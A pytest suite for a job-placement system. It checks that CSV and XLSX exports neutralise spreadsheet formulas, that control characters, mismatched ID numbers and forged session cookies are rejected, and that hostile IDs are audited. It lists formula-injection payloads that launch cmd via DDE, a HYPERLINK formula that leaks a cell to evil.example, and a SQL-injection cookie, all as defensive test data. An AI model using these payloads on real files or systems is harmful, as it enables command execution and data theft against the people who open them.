"""The adversarial corpus: formula payloads and control characters, through every CSV and XLSX
writer, the importer and the API's PATCH (issue 16, items 1 and 2); ID numbers that disagree with
birth year and gender, through the importer and PATCH (item 8); forged credentials, session
cookies and district codes (items 9 and 11).

* every CSV cell laborbridge writes that starts with ``= + - @``, tab or CR is a plain number or is
  neutralised with a leading ``'``; the importer reads the exported text back unchanged;
* every workbook it writes loads in openpyxl and holds no control character, even when one
  reached the records (a store written before the check, a dataset built in code);
* the importer rejects a control character with file, row and field, and keeps every valid row;
* ``PATCH`` answers 422 naming the field;
* ``PATCH`` holds birth year and gender to the ID number as the importer does, also when the
  store keeps the number masked (its gender digit shows; a new birth year needs the full number).
* a forged or stale session cookie (a key, a made-up id, an ended session) signs nobody in, and
  does not count against the address's failed key attempts; a forged ``X-Forwarded-For`` does
  not move a client out of its failed-attempt budget;
* a placement with a district target no Tianjin district has answers 422 before a run is queued;
  a 404 for a hostile id is audited with the id cut to the column's size.

Sibling files of the corpus: ``test_adversarial_pii.py`` (item 4: ID numbers and phones typed into
free text, in every spelling, through every path) and ``test_adversarial_uploads.py`` (item 5: files
built to crash a parser).
"""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest

from matcher.csvsafe import FORMULA_START, csv_cell, csv_uncell, xlsx_cell
from matcher.dataset import Dataset
from matcher.errors import RecordError
from matcher.ingest import ingest, write_rejected_csv
from matcher.ingest.template import write_csv as write_record_csv
from matcher.ingest.template import write_xlsx as write_record_xlsx
from matcher.placement.files import write_run
from matcher.placement.options import PlaceOptions
from matcher.placement.pipeline import run_placement
from matcher.reporting.exports import write_run_exports
from matcher.runs.record import build_record
from tests.fakes import FAKE_MIN_FIT, FakeEncoder
from tests.matcher.conftest import YEAR, small_dataset

FORMULAS = (
    "=1+1",
    "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
    "@A1",
    "+1-1",
)
NUMBERS = ("-0.5", "-0.500000", "+86", "-12", "3.25", "1e-3")  # stay as they are
CONTROLS = (
    "\x00",
    "\x01",
    "\x07",
    "\x08",
    "\x0b",
    "\x0c",
    "\x1b",
    "\x1f",
    "\x7f",
    "\x85",
    "\ud800",
    "\uffff",
)
# A file on disk cannot hold a lone surrogate; JSON and the API can (as an escape).
FILE_CONTROLS = tuple(c for c in CONTROLS if not "\ud800" <= c <= "\udfff")
# What a spreadsheet cell may hold: no C0/C1 control (but tab, LF, CR), no surrogate, no U+FFFE/FFFF.
BAD_IN_XLSX = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def assert_csv_safe(path: Path) -> list[str]:
    """Every cell of ``path`` is safe to open in a spreadsheet; returns the cells."""
    cells = [c for row in _csv_rows(path) for c in row]
    for c in cells:
        assert not c.startswith(FORMULA_START) or NUMBER.fullmatch(c), (path.name, c)
    return cells


def assert_xlsx_clean(path: Path) -> list[str]:
    """``path`` loads and no cell holds a character a workbook cannot hold; returns the text cells."""
    from openpyxl import load_workbook

    wb = load_workbook(path)  # raises on a malformed file
    texts = [v for ws in wb for row in ws.iter_rows(values_only=True) for v in row if isinstance(v, str)]
    for t in texts:
        assert not BAD_IN_XLSX.search(t), (path.name, t)
    return texts


# ----------------------------------------------------------------------------- the one function
@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cell_neutralises_every_formula_and_the_importer_undoes_it(text):
    cell = csv_cell(text)
    assert cell == "'" + text
    assert csv_uncell(cell) == text


@pytest.mark.parametrize("value", [*NUMBERS, -0.5, 3, 0.0, None, True, "张三", "", "a=b", "'-0.5", "'abc"])
def test_csv_cell_leaves_numbers_and_plain_text_alone(value):
    assert csv_cell(value) == value
    if isinstance(value, str):
        assert csv_uncell(value) == value


@pytest.mark.parametrize("text", ["'=x", "''+1", "'-0.5", "'", "'abc", *FORMULAS])
def test_csv_cell_round_trips_text_that_starts_with_an_apostrophe(text):
    assert csv_uncell(csv_cell(text)) == text
    assert csv_uncell(csv_cell("'" + text)) == "'" + text


@pytest.mark.parametrize("ch", CONTROLS)
def test_xlsx_cell_strips_control_characters_but_keeps_tab_and_line_breaks(ch):
    assert xlsx_cell(f"a{ch}b\tc\nd\re") == "ab\tc\nd\re"
    assert xlsx_cell(7) == 7 and xlsx_cell(None) is None


# ----------------------------------------------------------------------------- run files and exports
def _hostile_dataset() -> Dataset:
    """The small dataset with formulas and control characters in every text a file shows."""
    ds = small_dataset()
    evil = [*FORMULAS, *(f"控制{c}字符" for c in FILE_CONTROLS)]

    def text(i: int) -> str:
        return evil[i % len(evil)]

    enterprises = [e.model_copy(update={"name": text(i)}) for i, e in enumerate(ds.enterprises)]
    jobs = [
        j.model_copy(update={"title": text(i + 3), "description": text(i + 5)}) for i, j in enumerate(ds.jobs)
    ]
    prefixes = ("=", "+", "-", "@", "", "")
    ids = {w.worker_id: f"{prefixes[i % len(prefixes)]}{w.worker_id}" for i, w in enumerate(ds.workers)}
    workers = [
        w.model_copy(
            update={
                "worker_id": ids[w.worker_id],
                "name": text(i),
                "desired_occupations": (text(i + 1), "保安员"),
            }
        )
        for i, w in enumerate(ds.workers)
    ]
    rejected = [
        RecordError(reason, file=f"{f}.csv", row=2, field="title", value=v)
        for f, v, reason in zip(FORMULAS, FORMULAS[1:], FORMULAS[2:], strict=False)
    ]
    return Dataset(
        workers=workers, enterprises=enterprises, jobs=jobs, pairings=ds.pairings, rejected=rejected
    )


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    ds = _hostile_dataset()
    run = run_placement(ds, PlaceOptions(year=YEAR, k=6, min_fit=FAKE_MIN_FIT), encoder=FakeEncoder())
    out = tmp_path_factory.mktemp("adversarial")
    write_run(run, out / "run")
    rec = build_record(run)
    files = write_run_exports(ds, YEAR, rec.assignments, rec.unplaced, out / "exports")
    return ds, rec, out, files


def test_run_folder_csv_files_are_safe(hostile_run):
    _, rec, out, _ = hostile_run
    run_dir = out / "run"
    names = {p.name for p in run_dir.glob("*.csv")}
    assert {"assignments.csv", "unplaced.csv", "candidates.csv", "rejected.csv"} <= names
    for p in run_dir.glob("*.csv"):
        assert_csv_safe(p)
    # every worker id of the run is there, neutralised, and reads back as the id
    ids = [
        csv_uncell(r[0])
        for name in ("assignments.csv", "unplaced.csv")
        for r in _csv_rows(run_dir / name)[1:]
    ]
    assert sorted(ids) == sorted(
        [a["worker_id"] for a in rec.assignments] + [u["worker_id"] for u in rec.unplaced]
    )
    rejected = [c for r in _csv_rows(run_dir / "rejected.csv")[1:] for c in r]
    assert "'" + FORMULAS[1] in rejected and "'" + FORMULAS[0] + ".csv" in rejected
    scores = [r[2] for r in _csv_rows(run_dir / "candidates.csv")[1:]]
    assert scores and all(NUMBER.fullmatch(s) for s in scores)  # program numbers stay numbers


def test_export_csv_lists_are_safe_and_keep_the_text(hostile_run):
    _, _, _, files = hostile_run
    cells = [c for f in files if f.suffix == ".csv" for c in assert_csv_safe(f)]
    assert len([f for f in files if f.suffix == ".csv"]) >= 4
    neutralised = {c[1:] for c in cells if c.startswith("'")}
    assert neutralised & set(FORMULAS), "formula text should be exported, neutralised"


def test_export_workbooks_load_and_hold_no_control_character(hostile_run):
    _, _, _, files = hostile_run
    workbooks = [f for f in files if f.suffix == ".xlsx"]
    assert len(workbooks) >= 4
    texts = [t for f in workbooks for t in assert_xlsx_clean(f)]
    assert "控制字符" in texts  # the text survives, the control character does not
    assert FORMULAS[0] in texts  # stored as text: no formula, nothing to neutralise


def test_record_exports_and_rejected_list_are_safe(tmp_path):
    columns = ("job_id", "title", "description")
    rows = [
        {"job_id": f"j{i}", "title": f, "description": f"说明{c}"}
        for i, (f, c) in enumerate(zip(FORMULAS, FILE_CONTROLS, strict=False))
    ]
    with (tmp_path / "jobs.csv").open("w", encoding="utf-8-sig", newline="") as fh:
        write_record_csv(rows, columns, columns, fh)
    assert_csv_safe(tmp_path / "jobs.csv")
    write_record_xlsx(rows, [*FORMULAS[:3]], columns, tmp_path / "jobs.xlsx", sheet="岗位")
    assert_xlsx_clean(tmp_path / "jobs.xlsx")
    errors = [RecordError(f, file=f, row=i, field=f, value=f) for i, f in enumerate(FORMULAS, start=2)]
    write_rejected_csv(errors, tmp_path / "rejected.csv")
    assert_csv_safe(tmp_path / "rejected.csv")


# ----------------------------------------------------------------------------- the importer
def _write(folder: Path, name: str, text: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8")


def _quote(cells: list[str]) -> str:
    import io

    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow(cells)
    return buf.getvalue()


def test_import_rejects_control_characters_by_field_and_keeps_valid_rows(tmp_path):
    data = tmp_path / "data"
    _write(data, "enterprises.csv", "enterprise_id,name,location_code\ne1,河东物业,120102\n")
    jobs = ["job_id,enterprise_id,title,description,openings\n"]
    jobs.append(_quote(["ok-multiline", "e1", "保安员", "第一行\n第二行\t备注\r\n第三行", "2"]))
    jobs.append(_quote(["ok-formula", "e1", FORMULAS[1], FORMULAS[2], "1"]))
    bad_jobs = {}
    for i, c in enumerate(FILE_CONTROLS):
        field = "title" if i % 2 else "description"
        cells = {
            "job_id": f"bad{i}",
            "enterprise_id": "e1",
            "title": "保洁员",
            "description": "",
            "openings": "1",
        }
        cells[field] = f"x{c}y"
        bad_jobs[f"bad{i}"] = field
        jobs.append(_quote(list(cells.values())))
    _write(data, "jobs.csv", "".join(jobs))
    workers = ["worker_id,name,gender,birth_year,home_county_code,experience\n"]
    workers.append(_quote(["w-ok", "张三", "male", "1990", "623024", "做过\n保安\t三年"]))
    workers.append(_quote(["w-nul", "张\x00三", "male", "1990", "623024", ""]))
    workers.append(_quote(["w-bell", "李四", "female", "1991", "623024", "x\x07"]))
    _write(data, "workers.csv", "".join(workers))
    # a lone surrogate only JSON can carry
    (data / "pairings.json").write_text(
        '[{"district_code": "120102", "county_code": "623024", "since_year": "2018\\ud800"}]',
        encoding="utf-8",
    )

    result = ingest([data])
    got = {(Path(e.file).name, e.row, e.field) for e in result.rejected}
    jobs_at = {f"bad{i}": i + 4 for i in range(len(FILE_CONTROLS))}  # header row 1, two valid rows first
    # a CSV line break inside a quoted cell still makes one row; rows count records, not lines
    want = {("jobs.csv", row, bad_jobs[j]) for j, row in jobs_at.items()}
    want |= {("workers.csv", 3, "name"), ("workers.csv", 4, "experience"), ("pairings.json", 1, "since_year")}
    assert got == want, sorted(got ^ want, key=str)
    for e in result.rejected:
        assert "control character U+" in e.reason
        assert not BAD_IN_XLSX.search(e.value or ""), e.value  # the report shows it escaped
    kept = {kind: [lo.record for lo in items] for kind, items in result.records.items()}
    assert [j.job_id for j in kept["jobs"]] == ["ok-multiline", "ok-formula"]
    assert kept["jobs"][0].description == "第一行\n第二行\t备注\r\n第三行"
    assert kept["jobs"][1].title == FORMULAS[1]  # formulas are text, only neutralised on the way out
    assert [w.worker_id for w in kept["workers"]] == ["w-ok"]
    assert kept["workers"][0].experience == "做过\n保安\t三年"


def test_exported_csv_imports_back_unchanged(tmp_path):
    columns = ("job_id", "enterprise_id", "title", "description", "openings")
    rows = [
        {
            "job_id": f"j{i}",
            "enterprise_id": "e1",
            "title": f.strip() or "x",
            "description": f,
            "openings": "1",
        }
        for i, f in enumerate(FORMULAS)
    ]
    data = tmp_path / "data"
    _write(data, "enterprises.csv", 'enterprise_id,name,location_code\ne1,=HYPERLINK("x"),120102\n')
    with (data / "jobs.csv").open("w", encoding="utf-8-sig", newline="") as fh:
        write_record_csv(rows, columns, columns, fh)
    result = ingest([data])
    assert not result.rejected, [str(e) for e in result.rejected]
    got = {lo.record.job_id: lo.record for lo in result.records["jobs"]}
    for r in rows:  # cells are stripped on import, as every import is
        assert got[r["job_id"]].description == r["description"].strip()
        assert got[r["job_id"]].title == r["title"]


def test_job_fair_import_rejects_control_characters(tmp_path):
    from matcher.runs.followup import read_job_fairs

    path = tmp_path / "fairs.csv"
    path.write_text("fair_id,held_on,place,county_code\nf1,2026-03-01,会场\x07,623024\n", encoding="utf-8")
    with pytest.raises(RecordError) as exc:
        read_job_fairs(path)
    assert exc.value.field == "place" and exc.value.row == 2


# ----------------------------------------------------------------------------- the API
@pytest.fixture(scope="module")
def api(tmp_path_factory):
    from tests.api.conftest import auth, make_world, open_client

    world = make_world(tmp_path_factory.mktemp("adversarial-api"), n_workers=120, n_jobs=40, seed=5)
    with open_client(world.url, FakeEncoder()) as client:
        yield client, world, auth(world, "city_admin")


@pytest.mark.parametrize(
    ("kind", "field", "value"),
    [
        ("jobs", "description", "x\u0007"),
        ("jobs", "title", "保安\u0000员"),
        ("jobs", "title", "line\nbreak"),  # a title is not free text
        ("jobs", "description", "lone \ud800 surrogate"),
        ("workers", "name", "张\u0000三"),
        ("workers", "experience", "\u001b[31m"),
        ("workers", "education", "高中\u007f"),
        ("enterprises", "name", "物业\u0085"),
    ],
)
def test_patch_with_a_control_character_answers_422_naming_the_field(api, kind, field, value):
    client, world, h = api
    rid = {"jobs": world.job_own, "workers": world.worker_own, "enterprises": world.enterprise_own}[kind]
    before = client.get(f"/{kind}/{rid}", headers=h).json()
    r = client.patch(
        f"/{kind}/{rid}", content=json.dumps({field: value}), headers=h | {"content-type": "application/json"}
    )
    assert r.status_code == 422, r.text
    # the field named by the domain's check, or by the request model (a lone surrogate is no string)
    assert [e.get("field") or e["loc"][-1] for e in r.json()["errors"]] == [field], r.text
    assert client.get(f"/{kind}/{rid}", headers=h).json() == before


def test_patch_keeps_line_breaks_in_free_text_and_exports_stay_safe(api):
    client, world, h = api
    r = client.patch(f"/jobs/{world.job_own}", json={"description": "一\n二\t三"}, headers=h)
    assert r.status_code == 200, r.text  # stored as sent; responses show free text on one line
    assert _stored_description(world) == "一\n二\t三"
    r = client.patch(f"/jobs/{world.job_own}", json={"title": FORMULAS[2]}, headers=h)
    assert r.status_code == 200, r.text
    csv_text = client.get("/exports/jobs", params={"format": "csv"}, headers=h)
    assert csv_text.status_code == 200
    cells = [c for row in csv.reader(csv_text.content.decode("utf-8-sig").splitlines()) for c in row]
    assert "'" + FORMULAS[2] in cells
    assert all(not c.startswith(FORMULA_START) or NUMBER.fullmatch(c) for c in cells)


def _stored_description(world) -> str:
    from sqlalchemy import select

    from matcher.store import open_engine
    from matcher.store.models import JobRow

    engine = open_engine(world.url)
    with engine.connect() as conn:
        text = conn.execute(select(JobRow.description).where(JobRow.job_id == world.job_own)).scalar_one()
    engine.dispose()
    return text


def test_a_control_character_already_in_the_store_does_not_break_xlsx_downloads(api, tmp_path):
    """A record stored before the check (or written around it) must not turn downloads into 500s."""
    from sqlalchemy import update

    from matcher.store import open_engine
    from matcher.store.models import EnterpriseRow, JobRow

    client, world, h = api
    engine = open_engine(world.url)
    with engine.begin() as conn:
        conn.execute(update(JobRow).where(JobRow.job_id == world.job_own).values(description="x\x07y\x00"))
        conn.execute(
            update(EnterpriseRow)
            .where(EnterpriseRow.enterprise_id == world.enterprise_own)
            .values(name="物业\x0b公司")
        )
    engine.dispose()
    assert _stored_description(world) == "x\x07y\x00"
    for path, params, text in (
        ("/exports/jobs", {"format": "xlsx"}, "xy"),
        ("/exports/enterprises", {"format": "xlsx"}, "物业公司"),
        ("/exports/jobs", {"format": "csv"}, ""),
    ):
        r = client.get(path, params=params, headers=h)
        assert r.status_code == 200, (path, r.status_code)
        out = tmp_path / f"{path.strip('/').replace('/', '_')}.{params['format']}"
        out.write_bytes(r.content)
        if params["format"] == "xlsx":
            assert text in assert_xlsx_clean(out), path  # the text stays, its control characters go


# ----------------------------------------------------------------------------- ID number on PATCH (item 8)
def _id_number(region: str, year: int, gender: str, seq: int = 12) -> str:
    """A well-formed ID number of ``region`` born on 1 March ``year``, of ``gender``."""
    from matcher.idcard import id_check_digit

    last = seq * 10 + (1 if gender == "male" else 2)
    body = f"{region}{year}0301{last:03d}"
    return body + id_check_digit(body)


def _flip(gender: str) -> str:
    return "female" if gender == "male" else "male"


@pytest.fixture()
def worker(api):
    """The officer's worker as the store holds it (ID number masked), put back after the test."""
    client, world, h = api
    before = client.get(f"/workers/{world.worker_own}", headers=h).json()
    assert re.fullmatch(r"\d{6}\*{8}\d{3}[\dX]", before["id_number"]), before["id_number"]
    yield before
    with (world.data / "workers.csv").open(encoding="utf-8") as fh:  # the sample holds it in full
        original = next(r["id_number"] for r in csv.DictReader(fh) if r["worker_id"] == world.worker_own)
    back = {"id_number": original, "birth_year": before["birth_year"], "gender": before["gender"]}
    r = client.patch(f"/workers/{world.worker_own}", json=back, headers=h)
    assert r.status_code == 200 and r.json() == before, r.text


@pytest.mark.parametrize("role", ["city_admin", "district_officer"])
def test_patch_checks_gender_against_the_stored_masked_id_number(api, worker, role):
    from tests.api.conftest import auth

    client, world, h = api
    r = client.patch(
        f"/workers/{world.worker_own}", json={"gender": _flip(worker["gender"])}, headers=auth(world, role)
    )
    assert r.status_code == 422, r.text
    err = r.json()["errors"][0]
    assert err["field"] == "id_number" and "gender" in err["reason"], err  # the import check's words
    assert client.get(f"/workers/{world.worker_own}", headers=h).json() == worker
    same = client.patch(f"/workers/{world.worker_own}", json={"gender": worker["gender"]}, headers=h)
    assert same.status_code == 200, same.text


def test_patch_of_birth_year_needs_the_full_id_number_that_agrees_with_it(api, worker):
    client, world, h = api
    url, year = f"/workers/{world.worker_own}", worker["birth_year"] - 2
    alone = client.patch(url, json={"birth_year": year}, headers=h)
    assert alone.status_code == 422 and alone.json()["errors"][0]["field"] == "birth_year", alone.text
    masked = client.patch(url, json={"birth_year": year, "id_number": worker["id_number"]}, headers=h)
    assert masked.status_code == 422 and masked.json()["errors"][0]["field"] == "birth_year", masked.text
    region = worker["id_number"][:6]
    wrong_year = _id_number(region, year + 1, worker["gender"])
    r = client.patch(url, json={"birth_year": year, "id_number": wrong_year}, headers=h)
    assert r.status_code == 422, r.text
    assert r.json()["errors"][0]["field"] == "id_number" and "birth year" in r.json()["errors"][0]["reason"]
    wrong_gender = _id_number(region, year, _flip(worker["gender"]))
    r = client.patch(url, json={"birth_year": year, "id_number": wrong_gender}, headers=h)
    assert r.status_code == 422 and "gender" in r.json()["errors"][0]["reason"], r.text
    assert client.get(url, headers=h).json() == worker  # nothing written by a refused edit
    right = _id_number(region, year, worker["gender"])
    ok = client.patch(url, json={"birth_year": year, "id_number": right}, headers=h)
    assert ok.status_code == 200, ok.text
    assert ok.json()["birth_year"] == year and ok.json()["id_number"] == right[:6] + "*" * 8 + right[-4:]


def test_patch_of_the_id_number_alone_is_checked_against_birth_year_and_gender(api, worker):
    client, world, h = api
    url, region = f"/workers/{world.worker_own}", worker["id_number"][:6]
    for bad in (
        _id_number(region, worker["birth_year"] + 3, worker["gender"]),
        _id_number(region, worker["birth_year"], _flip(worker["gender"])),
    ):
        r = client.patch(url, json={"id_number": bad}, headers=h)
        assert r.status_code == 422 and r.json()["errors"][0]["field"] == "id_number", r.text
    other_mask = worker["id_number"][:6] + "*" * 8 + "0000"
    r = client.patch(url, json={"id_number": other_mask}, headers=h)
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "id_number", r.text
    assert client.get(url, headers=h).json() == worker


def test_import_checks_gender_against_a_masked_id_number_too(tmp_path):
    """An export read back (ID numbers masked) is held to the same check: the mask keeps the gender digit."""
    data = tmp_path / "data"
    rows = ["worker_id,name,id_number,gender,birth_year,home_county_code\n"]
    rows.append("w-ok,张三,623024********0011,male,1990,623024\n")  # 17th digit 1: a man's
    rows.append("w-bad,李四,623024********0011,female,1990,623024\n")
    _write(data, "workers.csv", "".join(rows))
    result = ingest([data])
    assert [lo.record.worker_id for lo in result.records["workers"]] == ["w-ok"]
    assert [(e.row, e.field) for e in result.rejected] == [(3, "id_number")]
    assert "gender" in result.rejected[0].reason


# ----------------------------------------------------------------------------- credentials (item 9, 11)
def _ended_session(client, world) -> str:
    sessions = client.app.state.services.sessions
    s = sessions.start(client.app.state.services.keys.resolve(world.keys["auditor"]))
    sessions.end(s.id)
    return s.id


FORGED_COOKIES = {
    "the key itself": lambda world: world.keys["city_admin"],
    "a made-up id": lambda world: "lbs_" + "A" * 43,
    "sql": lambda world: "lbs_' OR '1'='1",
    "too long": lambda world: "lbs_" + "x" * 500,
    "percent-encoded NUL": lambda world: "lbs_%00",
}


@pytest.mark.parametrize("name", [*FORGED_COOKIES, "an ended session"])
def test_a_forged_or_ended_session_cookie_signs_nobody_in_and_is_no_key_attempt(api, name):
    from api.auth import RateLimiter

    client, world, _ = api
    value = _ended_session(client, world) if name == "an ended session" else FORGED_COOKIES[name](world)
    keys = client.app.state.services.keys
    saved, keys.failures = keys.failures, RateLimiter(rate=1 / 60, burst=1, clock=lambda: 0.0)
    client.cookies.set("laborbridge_session", value)
    try:
        for _ in range(3):
            assert client.get("/me").status_code == 401
            r = client.get("/console/", follow_redirects=False)
            assert r.status_code == 303 and "/console/sign-in" in r.headers["location"]
        assert keys.failures.wait("testclient") == 0.0
    finally:
        client.cookies.clear()
        keys.failures = saved


def test_a_forged_forwarded_for_does_not_escape_the_failed_attempt_budget(api):
    from api.auth import RateLimiter

    client, world, _ = api
    keys = client.app.state.services.keys
    saved, keys.failures = keys.failures, RateLimiter(rate=1 / 60, burst=3, clock=lambda: 0.0)
    try:
        codes = [
            client.get(
                "/me",
                headers={"X-API-Key": f"lb_guess{i:05d}_" + "x" * 40, "X-Forwarded-For": f"10.9.{i}.1"},
            ).status_code
            for i in range(6)
        ]
    finally:
        keys.failures = saved
    assert codes == [401, 401, 401, 429, 429, 429]


@pytest.mark.parametrize(
    "code", ["120199", "120107", "1201\uff10\uff12", "\u0661\u0662\u0660\u0661\u0660\u0662"]
)
def test_a_district_target_no_tianjin_district_has_answers_422_before_a_run(api, code):
    client, _, h = api
    runner = client.app.state.services.placements
    before = runner.recent(50)
    r = client.post("/placements", json={"rules": {"district_targets": {code: 1}}}, headers=h)
    assert r.status_code == 422, r.text
    assert runner.recent(50) == before


@pytest.mark.parametrize("worker_id", ["W" + "9" * 63, "=cmd|' -C calc'!A0", "张三\u202e", "@SUM(1+1)"])
def test_a_404_for_a_hostile_worker_id_is_audited_as_given(api, worker_id):
    from api.audit import audit_rows

    client, _, h = api
    services = client.app.state.services
    assert client.get(f"/workers/{worker_id}", headers=h).status_code == 404
    services.audit.flush()
    rows = audit_rows(services.engine, worker_id=worker_id, limit=1000)
    assert rows and rows[-1]["detail"].startswith("denied 404")
    assert rows[-1]["route"] == "/workers/{worker_id}"


def test_a_console_404_for_an_overlong_id_is_audited_cut_to_the_column(api):
    """The console's paths take any length (the API's stop at 64): the row keeps the first 64."""
    from api.audit import audit_rows
    from tests.web.conftest import sign_in

    client, world, _ = api
    services = client.app.state.services
    sign_in(client, world.keys["city_admin"])
    try:
        assert client.get("/console/workers/" + "Z" * 300).status_code == 404
    finally:
        client.cookies.clear()
    services.audit.flush()
    rows = audit_rows(services.engine, worker_id="Z" * 64, limit=1000)
    assert rows and rows[-1]["detail"].startswith("denied 404") and len(rows[-1]["detail"]) <= 300
